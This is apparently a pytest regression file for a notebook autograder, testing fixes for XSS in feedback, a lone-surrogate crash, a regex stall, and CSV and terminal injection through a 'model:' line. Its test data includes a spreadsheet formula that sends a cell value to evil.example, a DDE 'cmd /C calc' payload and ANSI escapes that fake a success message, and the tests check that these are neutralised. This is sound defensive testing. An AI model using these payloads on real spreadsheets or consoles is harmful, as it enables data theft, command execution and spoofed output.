"""Issue 32: everything a student writes is untrusted.

Each failure of the attack report first, as it was found, then the hostile class that holds all of them:
1. script in the feedback (a markdown cell with <script>, <img onerror>, <style> hiding errors; a code cell
   displaying HTML that imitates the grader's score) — the page runs nothing and shows the real score, in
   Chromium too;
2. a lone surrogate in the `model:` line — every report is still written;
3. `model: x` + 250 000 spaces + `y` — read in milliseconds, not 348 s of regex backtracking;
4. quiz 6 answered as a lambda, behind a decorator without functools.wraps, as functools.partial or as a
   callable object — graded through the variable the quiz names (here in the kernel-side code, and as
   cases of the quiz_search class in test_autograder_quizzes.py);
5. `model:` lines with a spreadsheet formula or terminal escapes — a text cell in the CSV, escaped on the
   console and in the summary.
"""
import csv
import functools
import io
import json
import re
import time
from pathlib import Path

import nbformat
import pytest

from autograder import collect, modelcheck, report, untrusted, values, verdict

import autograder_cases as cases

MODEL = "course-model sha256:0123456789abcdef"
FORMULA = '=HYPERLINK("http://evil.example/?"&E2,"click for your grade")'
ESCAPES = "\x1b[2J\x1b[H\x1b[32mALL 312 SUBMISSIONS GRADED OK\x1b[0m\x07"
STALL = "x" + " " * 250_000 + "y"


def with_model_line(nb, text):
    """``nb`` as if the student had run it and its setup cell printed ``text`` (a JSON-ready dict)."""
    nb = nbformat.from_dict(json.loads(json.dumps(nb)))
    setup = next(c for c in nb.cells if c.cell_type == "code")
    setup.outputs = [nbformat.v4.new_output("stream", name="stdout", text=text)]
    return nb


def write_raw(nb, path):
    """Written as json.dumps does (ASCII, so a lone surrogate is the text ``\\ud800``, as the attacker's file)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(nb))
    return path


# ---- 2. a lone surrogate --------------------------------------------------------------------------------
def test_the_reader_returns_valid_unicode_and_names_the_cell(tmp_path):
    path = write_raw(with_model_line(cases.tiny_notebook(), "model: x\ud800\n"), tmp_path / "a.ipynb")
    assert "\\ud800" in path.read_text()
    notes = []
    nb, problem = collect.read_notebook(path, notes)
    assert problem == ""
    json.dumps(nb, ensure_ascii=False).encode("utf-8")  # raised UnicodeEncodeError before
    assert any(n.startswith("cell 2 ('setup'), a code cell, held text that is not valid Unicode") for n in notes)
    assert modelcheck.printed_model(path) == "x\ufffd"


def _results(tmp_path, answered):
    """A class of one row per label in ``answered``, graded under MODEL (modelcheck.annotate on real files)."""
    results = []
    for number, text in enumerate(answered):
        student = f"s{number}"
        for root, line in (("submitted", text), ("autograded", f"model: {MODEL}\n")):
            write_raw(with_model_line(cases.tiny_notebook(), line), tmp_path / root / student / "tiny" / "tiny.ipynb")
        results.append({"student": student, "name": student, "assignment": "tiny", "status": "graded",
                        "grades": [{"grade_id": "q1_test", "notebook": "tiny", "auto_score": 2.0, "max_score": 2.0}]})
    return modelcheck.annotate(results, tmp_path / "submitted", tmp_path / "autograded")


def test_a_lone_surrogate_in_the_model_line_leaves_a_csv_and_summary_that_utf8_can_write(tmp_path):
    results = _results(tmp_path, [f"model: {MODEL}\n", "model: evil\ud800\n"])
    text = report.csv_text(results, r"q(\d+)", {})
    text.encode("utf-8")  # was: 'utf-8' codec can't encode '\ud800', and a 0-byte CSV
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["answered_model"] for r in rows] == [MODEL, "evil\ufffd"]
    report.summary_table(results, r"q(\d+)").encode("utf-8")


# ---- 3. the stall ----------------------------------------------------------------------------------------
def test_the_model_line_is_read_in_linear_time_and_kept_short(tmp_path):
    # 50 000 spaces took the old regular expression about 14 s (quadratic: 348 s for 250 000)
    for spaces in (50_000, 250_000, 5_000_000):
        path = write_raw(with_model_line(cases.tiny_notebook(), f"model: x{' ' * spaces}y\n"), tmp_path / "s.ipynb")
        start = time.monotonic()
        label = modelcheck.printed_model(path)
        assert time.monotonic() - start < 2, spaces
        assert label.startswith("x ") and label.endswith("…") and len(label) == untrusted.MAX_LABEL
    assert modelcheck.parse_line(f"model: {MODEL}  \r") == MODEL
    assert modelcheck.parts(MODEL) == ("course-model", "0123456789abcdef")
    assert modelcheck.parts("openai/clip-vit-base-patch32") == ("openai/clip-vit-base-patch32", "")
    assert modelcheck.parts("x sha256:NOTHEX12") == ("x sha256:NOTHEX12", "")


# ---- 5. formulas and escapes ---------------------------------------------------------------------------
@pytest.mark.parametrize("text, cell", [
    ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-1.5", "-1.5"), ("-", "-"), ("3", "3"), ("ann", "ann"),
    ("a\ud800", "a\ufffd"), (FORMULA, "'" + FORMULA)])
def test_a_csv_cell_never_starts_a_formula(text, cell):
    assert untrusted.csv_cell(text) == cell


def test_formula_and_escapes_in_the_model_line_are_text_in_the_csv_and_escaped_in_the_summary(tmp_path):
    results = _results(tmp_path, [f"model: {FORMULA}\n", f"model: {ESCAPES}\n"])
    rows = list(csv.DictReader(io.StringIO(report.csv_text(results, r"q(\d+)", {}))))
    assert rows[0]["answered_model"] == "'" + FORMULA and rows[0]["model_differs"] == "yes"
    summary = report.summary_table(results, r"q(\d+)")
    assert "MODEL MISMATCH: 2 of 2" in summary
    assert "\x1b" not in summary and "\x07" not in summary
    assert "\\x1b[2J\\x1b[H\\x1b[32mALL 312 SUBMISSIONS GRADED OK\\x1b[0m\\x07" in summary


# ---- 4. honest answers in any valid form ---------------------------------------------------------------
def _top1(text_embedding, image_embeddings, image_filenames):
    return image_filenames[0]


def _no_wraps(function):
    def wrapper(*args):
        return function(*args)
    return wrapper


class _Callable:
    def __call__(self, text_embedding, image_embeddings, image_filenames):
        return image_filenames[0]


FORMS = {"lambda": lambda text_embedding, image_embeddings, image_filenames: image_filenames[0],
         "decorated": _no_wraps(_top1), "partial": functools.partial(_top1), "callable object": _Callable()}


@pytest.mark.parametrize("form", sorted(FORMS))
def test_a_function_is_called_through_the_variable_the_quiz_names(form, monkeypatch):
    """values.dump names the function by its variable (was: its __name__, ``<lambda>`` or ``wrapper``, which
    the kernel then could not find: 7/10 and "top1_filename raised Error:"); values.call accepts any callable."""
    namespace = {"top1_filename": FORMS[form]}
    monkeypatch.setattr(values, "_namespace", lambda: namespace)
    dumped = json.loads(values.dump(["top1_filename"]))
    assert dumped == {"top1_filename": {"t": "function", "name": "top1_filename"}}
    sent = []

    def call_kernel(name, payload):
        sent.append(name)
        return json.loads(values.call(name, payload))

    remote = verdict.Decoder(call_kernel=call_kernel).value(dumped["top1_filename"])
    assert remote([[1.0]], [[1.0], [0.0]], ["a.png", "b.png"]) == "a.png" and sent == ["top1_filename"]


